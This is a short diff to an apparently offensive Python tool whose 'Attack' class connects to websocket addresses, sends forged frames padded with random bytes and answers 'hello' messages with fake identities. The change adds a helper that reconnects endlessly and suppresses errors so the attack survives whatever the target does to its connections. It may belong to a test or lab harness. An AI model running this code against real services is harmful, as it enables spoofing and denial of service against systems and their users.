@@ -16,6 +16,7 @@ import struct
 import time
 from collections import Counter
 from collections.abc import Awaitable, Callable
+from typing import Any
 
 from websockets.asyncio.client import ClientConnection, connect
 from websockets.exceptions import WebSocketException
@@ -247,7 +248,7 @@ class Attack:
                             await websocket.send(m.encode_outer(forged))
 
         print(json.dumps({"ready": True}), flush=True)
-        await asyncio.gather(*map(over, self.addresses))
+        await asyncio.gather(*(again(over, address) for address in self.addresses))
 
     def _forged(self, frame: m.Outer) -> list[m.Outer]:
         junk = os.urandom
@@ -285,13 +286,22 @@ class Attack:
                     elif kind == "hello":
                         for fake in mine:
                             await self._answer(websocket, fake, text)
+                            await asyncio.sleep(0)  # pings want their answers
 
         work = [
-            over(address, fakes[number * share : (number + 1) * share])
+            again(over, address, fakes[number * share : (number + 1) * share])
             for number, address in enumerate(self.addresses)
         ]
         print(json.dumps({"ready": True}), flush=True)
         await asyncio.gather(*work)
+
+
+async def again(attack: Callable[..., Awaitable[None]], *arguments: Any) -> None:
+    """Whatever the box does to a connection, there is another one."""
+    while True:
+        with contextlib.suppress(OSError, WebSocketException):
+            await attack(*arguments)
+        await asyncio.sleep(0.5)
 
 
 async def run(attack: Attack, what: str, seconds: float | None) -> None:
